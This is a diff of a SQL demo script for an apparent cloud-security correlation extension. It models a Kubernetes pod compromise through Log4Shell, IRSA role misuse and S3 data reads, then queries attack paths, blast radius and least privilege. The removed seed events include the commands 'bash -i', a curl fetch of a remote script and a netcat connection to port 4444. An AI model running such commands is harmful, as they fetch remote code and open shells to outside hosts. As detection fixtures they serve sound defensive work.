@@ -1,7 +1,9 @@
--- The seed scenario (DEVELOPERS.md): a privileged, internet-facing pod in namespace
--- legacy-webapp with an exploitable CVE gets a root shell, calls out to unknown IPs,
--- and its IRSA role reads a sensitive bucket.  Loaded through the write API, then
--- shown by domain, as a graph and as a timeline.
+-- correlate demo: the seed scenario (test/data/seed/README.md), loaded from real-format
+-- telemetry through correlate.ingest, then every answer correlate gives about it.
+--
+-- A privileged, internet-facing pod in namespace legacy-webapp runs an image with an
+-- exploited CVE; Falco sees a root shell and outbound connections; the pod's IRSA role,
+-- allowed far more than it uses, lists buckets and reads a sensitive one.
 \pset footer off
 \pset null '-'
 SET TIME ZONE 'UTC';
@@ -9,139 +11,81 @@ SET client_min_messages = warning;
 DROP EXTENSION IF EXISTS correlate CASCADE;
 CREATE EXTENSION correlate;
 RESET client_min_messages;
-SET correlate.default_cluster = 'prod-eks';
 
-\echo '== Loading the seed scenario through the write API'
-SELECT count(*) AS resources_loaded FROM correlate.upsert_resources(
-	ARRAY['internet',
-		  'k8s://prod-eks/_/namespace/legacy-webapp',
-		  'k8s://prod-eks/legacy-webapp/service/webapp-lb',
-		  'k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k',
-		  'container://8c2f1e7a9b3d',
-		  'image://sha256:3f1c9b2a7d5e4f608192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8',
-		  'k8s://prod-eks/_/node/ip-10-0-1-23.ec2.internal',
-		  'k8s://prod-eks/legacy-webapp/serviceaccount/webapp-sa',
-		  'arn:aws:iam::111122223333:role/legacy-webapp-role',
-		  'arn:aws:iam::111122223333:policy/legacy-webapp-broad',
-		  'arn:aws:s3:::acme-customer-pii',
-		  'ip://203.0.113.50',
-		  'ip://198.51.100.7'],
-	ARRAY['internet', 'k8s:namespace', 'k8s:service', 'k8s:pod', 'container', 'container:image', 'k8s:node',
-		  'k8s:serviceaccount', 'aws:iam:role', 'aws:iam:policy', 'aws:s3:bucket', 'network:ip', 'network:ip'],
-	names => ARRAY['internet', 'legacy-webapp', 'webapp-lb', 'webapp-7d4b9c6f5-x2x9k', 'webapp', 'legacy/webapp:1.4.2',
-		  'ip-10-0-1-23.ec2.internal', 'webapp-sa', 'legacy-webapp-role', 'legacy-webapp-broad', 'acme-customer-pii',
-		  '203.0.113.50', '198.51.100.7'],
-	accounts => ARRAY[NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, '111122223333', '111122223333', '111122223333', NULL, NULL],
-	namespaces => ARRAY[NULL, NULL, 'legacy-webapp', 'legacy-webapp', 'legacy-webapp', NULL, NULL, 'legacy-webapp', NULL, NULL, NULL, NULL, NULL],
-	props => ARRAY[NULL, NULL, '{"type":"LoadBalancer","hostname":"a1b2c3d4e5f6-1234567890.us-east-1.elb.amazonaws.com"}',
-		  '{"privileged":true,"runAsUser":0}', NULL, '{"ref":"registry.example.com/legacy/webapp:1.4.2"}', NULL,
-		  '{"annotations":{"eks.amazonaws.com/role-arn":"arn:aws:iam::111122223333:role/legacy-webapp-role"}}',
-		  NULL, '{"statements":["s3:* on *","ec2:Describe* on *","iam:PassRole on *"]}', NULL, NULL, NULL]::jsonb[],
-	criticalities => ARRAY[NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, 1.0, NULL, NULL]::real[]);
-
-CREATE TEMP TABLE ids AS SELECT uid, id FROM correlate.resource;
-CREATE FUNCTION pg_temp.id(u text) RETURNS bigint LANGUAGE sql AS $$ SELECT id FROM ids WHERE uid = u $$;
-
-SELECT count(*) AS relationships_loaded FROM correlate.link_many(
-	ARRAY[pg_temp.id('internet'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/service/webapp-lb'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
-		  pg_temp.id('container://8c2f1e7a9b3d'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/serviceaccount/webapp-sa'),
-		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
-		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
-		  pg_temp.id('k8s://prod-eks/_/namespace/legacy-webapp'),
-		  pg_temp.id('container://8c2f1e7a9b3d'),
-		  pg_temp.id('container://8c2f1e7a9b3d')],
-	ARRAY[pg_temp.id('k8s://prod-eks/legacy-webapp/service/webapp-lb'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/serviceaccount/webapp-sa'),
-		  pg_temp.id('k8s://prod-eks/_/node/ip-10-0-1-23.ec2.internal'),
-		  pg_temp.id('container://8c2f1e7a9b3d'),
-		  pg_temp.id('image://sha256:3f1c9b2a7d5e4f608192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8'),
-		  pg_temp.id('image://sha256:3f1c9b2a7d5e4f608192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8'),
-		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
-		  pg_temp.id('arn:aws:iam::111122223333:policy/legacy-webapp-broad'),
-		  pg_temp.id('arn:aws:s3:::acme-customer-pii'),
-		  pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
-		  pg_temp.id('ip://203.0.113.50'),
-		  pg_temp.id('ip://198.51.100.7')],
-	ARRAY['exposes', 'exposes', 'runs_as', 'runs_on', 'contains', 'uses_image', 'uses_image', 'assumes',
-		  'has_policy', 'can_access', 'contains', 'connects_to', 'connects_to'],
-	likelihoods => ARRAY[0.95, 0.9, 0.9, 0.6, 0.9, 0.9, 0.9, 0.85, 0.9, 0.9, 0.9, 0.5, 0.5],
-	props => ARRAY['{"port":80}', '{"targetPort":8080}', NULL, NULL, NULL, NULL, NULL, '{"via":"IRSA"}', NULL,
-		  '{"class":"read","actions":["s3:*"]}', NULL, '{"port":443}', '{"port":4444}']::jsonb[],
-	sources => ARRAY['k8s_inventory', 'k8s_inventory', 'k8s_inventory', 'k8s_inventory', 'k8s_inventory',
-		  'k8s_inventory', 'k8s_inventory', 'k8s_inventory', 'aws_iam', 'aws_iam', 'k8s_inventory', 'falco', 'falco']);
-
-SELECT correlate.record_finding(pg_temp.id('image://sha256:3f1c9b2a7d5e4f608192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8'),
-	'vulnerability', 'CVE-2021-44228', 'critical', title => 'Apache Log4j2 JNDI remote code execution (Log4Shell)',
-	package => 'org.apache.logging.log4j:log4j-core', cvss => 10.0, known_exploited => true,
-	installed_version => '2.14.1', fixed_version => '2.15.0', source => 'trivy') IS NOT NULL AS vuln_recorded;
-SELECT correlate.record_finding(pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
-	'misconfiguration', 'privileged', 'high', title => 'container webapp runs privileged', source => 'k8s_inventory')
-	IS NOT NULL AS misconfig_recorded;
-SELECT correlate.record_ip_lease('10.0.1.57', pg_temp.id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k'),
-	'2026-11-01 08:00+00', source => 'k8s_inventory') IS NOT NULL AS lease_recorded;
-
-SELECT count(*) AS events_loaded FROM correlate.record_events(
-	ARRAY['2026-11-20 10:00:00+00', '2026-11-20 10:02:10+00', '2026-11-20 10:02:40+00', '2026-11-20 10:04:30+00',
-		  '2026-11-20 10:05:00+00', '2026-11-20 10:06:00+00', '2026-11-20 10:06:30+00']::timestamptz[],
-	ARRAY[1007, 4001, 4001, 6003, 6003, 6003, 6003],
-	ARRAY['falco', 'falco', 'falco', 'cloudtrail', 'cloudtrail', 'cloudtrail', 'cloudtrail'],
-	domains => ARRAY['workload', 'network', 'network', 'identity', 'data', 'data', 'data'],
-	severity_ids => ARRAY[3, 3, 3, 1, 2, 3, 3],
-	actors => ARRAY[pg_temp.id('container://8c2f1e7a9b3d'), pg_temp.id('container://8c2f1e7a9b3d'),
-		  pg_temp.id('container://8c2f1e7a9b3d'), pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
-		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
-		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'),
-		  pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role')],
-	targets => ARRAY[NULL, pg_temp.id('ip://203.0.113.50'), pg_temp.id('ip://198.51.100.7'), NULL, NULL,
-		  pg_temp.id('arn:aws:s3:::acme-customer-pii'), pg_temp.id('arn:aws:s3:::acme-customer-pii')],
-	src_ips => ARRAY[NULL, '10.0.1.57', '10.0.1.57', '10.0.1.57', '10.0.1.57', '10.0.1.57', '10.0.1.57']::inet[],
-	dst_ips => ARRAY[NULL, '203.0.113.50', '198.51.100.7', NULL, NULL, NULL, NULL]::inet[],
-	dst_ports => ARRAY[NULL, 443, 4444, NULL, NULL, NULL, NULL],
-	processes => ARRAY['bash', 'curl', 'nc', NULL, NULL, NULL, NULL],
-	command_lines => ARRAY['bash -i', 'curl -s https://203.0.113.50/x.sh', 'nc 198.51.100.7 4444', NULL, NULL, NULL, NULL],
-	actions => ARRAY['execve', 'connect', 'connect', 'sts:AssumeRoleWithWebIdentity', 's3:ListBuckets',
-		  's3:GetObject', 's3:GetObject'],
-	outcomes => ARRAY[NULL, NULL, NULL, 'success', 'success', 'success', 'success'],
-	rules => ARRAY['Terminal shell in container', 'Unexpected outbound connection destination',
-		  'Unexpected outbound connection destination', NULL, NULL, NULL, NULL]);
--- the role's legitimate, daily use
-SELECT count(*) AS baseline_events_loaded FROM correlate.record_events(
-	ARRAY(SELECT d + time '09:00' FROM generate_series('2026-11-10'::date, '2026-11-19', '1 day') d)::timestamptz[],
-	array_fill(6003, ARRAY[10]), array_fill('cloudtrail'::text, ARRAY[10]),
-	domains => array_fill('cloud'::text, ARRAY[10]),
-	actors => array_fill(pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role'), ARRAY[10]),
-	actions => array_fill('ec2:DescribeInstances'::text, ARRAY[10]),
-	outcomes => array_fill('success'::text, ARRAY[10]));
+\echo '== 1. Ingest: six real-format files (kubectl, Trivy, IAM, VPC flow logs, Falco, CloudTrail)'
+\i test/data/seed/load.sql
+\echo '   ...and evaluate the IAM policies into graph edges'
+SELECT statements, edges_written AS permission_edges FROM (
+	SELECT (r).* FROM (SELECT correlate.refresh_policies() AS r) x) y(policies, statements, edges_written, problems);
 
 \echo
-\echo '== Resources by domain'
-SELECT domain, count(*) AS resources, string_agg(kind || ' ' || COALESCE(name, uid), ', ' ORDER BY kind, uid) AS what
+\echo '== 2. What correlate now knows, by domain'
+SELECT domain, count(*) AS resources, string_agg(DISTINCT kind, ', ' ORDER BY kind) AS kinds
 FROM correlate.resource GROUP BY domain ORDER BY domain;
 
-\echo '== Relationships (how an attacker moves)'
-SELECT s.name AS src, r.kind, d.name AS dst, r.likelihood, r.source
-FROM correlate.relationship r JOIN correlate.resource s ON s.id = r.src JOIN correlate.resource d ON d.id = r.dst
-ORDER BY s.name, r.kind, d.name;
-
-\echo '== Findings'
-SELECT r.name AS resource, f.kind, f.check_id, f.severity, f.cvss, f.known_exploited, f.title
-FROM correlate.finding f JOIN correlate.resource r ON r.id = f.resource ORDER BY f.severity DESC, f.check_id;
-
-\echo '== Events in time order, across workload, network, identity and data (2026-11-20)'
-SELECT to_char(e.ts, 'HH24:MI:SS') AS time, e.domain, e.source, COALESCE(e.rule, e.action) AS what,
-	   a.name AS actor, COALESCE(t.name, host(e.dst_ip)) AS target, e.command_line
+\echo '== 3. The incident timeline across workload, network, identity and data (2026-11-20)'
+SELECT to_char(e.ts, 'HH24:MI:SS') AS time, e.domain, e.source,
+	   COALESCE(e.rule, e.action) AS what, COALESCE(a.name, host(e.src_ip)) AS actor,
+	   COALESCE(t.name, host(e.dst_ip) || COALESCE(':' || e.dst_port, '')) AS target
 FROM correlate.event e
-LEFT JOIN correlate.resource a ON a.id = e.actor LEFT JOIN correlate.resource t ON t.id = e.target
-WHERE e.ts >= '2026-11-20' ORDER BY e.ts;
+LEFT JOIN correlate.resource a ON a.id = e.actor
+LEFT JOIN correlate.resource t ON t.id = e.target
+WHERE e.ts >= '2026-11-20' AND e.ts < '2026-11-21'
+ORDER BY e.ts, e.source, e.id;
 
-\echo '== What the role was granted versus what it used before the incident'
-SELECT e.action, count(*) AS calls, min(e.ts)::date AS first, max(e.ts)::date AS last
-FROM correlate.event e WHERE e.actor = pg_temp.id('arn:aws:iam::111122223333:role/legacy-webapp-role')
-  AND e.ts < '2026-11-20' GROUP BY e.action ORDER BY e.action;
+\echo '== 4. Cross-domain resolution: from the Falco alert to the role''s CloudTrail calls, in one join'
+SELECT DISTINCT c.uid AS container, p.name AS pod, sa.name AS service_account, role.name AS iam_role,
+	   count(ct.*) OVER (PARTITION BY role.id) AS cloudtrail_calls_by_role
+FROM correlate.event a
+JOIN correlate.resource c ON c.uid = correlate.container_uid(a.raw #>> '{output_fields,container.id}')
+JOIN correlate.relationship pc ON pc.dst = c.id AND pc.kind = 'contains'
+JOIN correlate.resource p ON p.id = pc.src AND p.kind = 'k8s:pod'
+JOIN correlate.relationship ra ON ra.src = p.id AND ra.kind = 'runs_as'
+JOIN correlate.resource sa ON sa.id = ra.dst
+JOIN correlate.relationship asm ON asm.src = sa.id AND asm.kind = 'assumes'
+JOIN correlate.resource role ON role.id = asm.dst
+JOIN correlate.event ct ON ct.source = 'cloudtrail' AND ct.actor = role.id
+WHERE a.source = 'falco' AND a.rule = 'Terminal shell in container';
+
+\echo '== 5. Attack paths from the internet to the crown jewels, most likely first'
+SELECT p.path_rank AS rank, round(min(p.path_likelihood)::numeric, 3) AS likelihood,
+	   string_agg(COALESCE(rel.kind || ' -> ', '') || r.name, ' ' ORDER BY p.hop) AS path
+FROM correlate.attack_paths() p
+JOIN correlate.resource r ON r.id = p.resource_id
+LEFT JOIN correlate.relationship rel ON rel.id = p.relationship_id
+GROUP BY p.path_rank ORDER BY p.path_rank;
+
+\echo '== 6. Where the paths converge (chokepoints) and the smallest set of edges that cuts them all'
+SELECT COALESCE(r.name, s.name || ' -' || rel.kind || '-> ' || d.name) AS chokepoint, c.paths_through,
+	   round(c.likelihood_share::numeric, 3) AS likelihood_share
+FROM correlate.chokepoints() c
+LEFT JOIN correlate.resource r ON r.id = c.resource_id
+LEFT JOIN correlate.relationship rel ON rel.id = c.relationship_id
+LEFT JOIN correlate.resource s ON s.id = rel.src LEFT JOIN correlate.resource d ON d.id = rel.dst
+ORDER BY c.paths_through DESC, c.likelihood_share DESC, 1;
+SELECT s.name AS src, rel.kind, d.name AS dst, m.cost
+FROM correlate.min_cut() m
+JOIN correlate.relationship rel ON rel.id = m.relationship_id
+JOIN correlate.resource s ON s.id = m.src JOIN correlate.resource d ON d.id = m.dst
+ORDER BY 1, 2, 3;
+
+\echo '== 7. Blast radius of the compromised pod'
+SELECT r.domain, r.kind, r.name, b.hops, round(b.likelihood::numeric, 3) AS likelihood
+FROM correlate.blast_radius(ARRAY[correlate.resource_id('k8s://prod-eks/legacy-webapp/pod/webapp-7d4b9c6f5-x2x9k')]) b
+JOIN correlate.resource r ON r.id = b.resource_id
+ORDER BY b.hops, b.likelihood DESC, r.name;
+
+\echo '== 8. Who can read the exported customer file, and why'
+SELECT w.principal_uid, w.decision, w.via, w.policy, w.sid
+FROM correlate.who_can('s3:GetObject', 'arn:aws:s3:::acme-customer-pii/exports/customers-2026-11.csv') w
+ORDER BY 1;
+
+\echo '== 9. The role: granted versus used before the incident (basis for least privilege)'
+SELECT u.action, u.used, u.granted, u.pattern
+FROM correlate.permission_usage('arn:aws:iam::111122223333:role/legacy-webapp-role', '2026-11-01', '2026-11-20') u
+ORDER BY u.used DESC, u.action;
+
+\echo '== 10. Findings on the path'
+SELECT r.name AS resource, f.kind, f.check_id, f.severity, f.cvss, f.known_exploited, f.fixed_version
+FROM correlate.finding f JOIN correlate.resource r ON r.id = f.resource
+ORDER BY CASE f.severity WHEN 'critical' THEN 0 WHEN 'high' THEN 1 WHEN 'medium' THEN 2 ELSE 3 END, f.check_id, r.name;
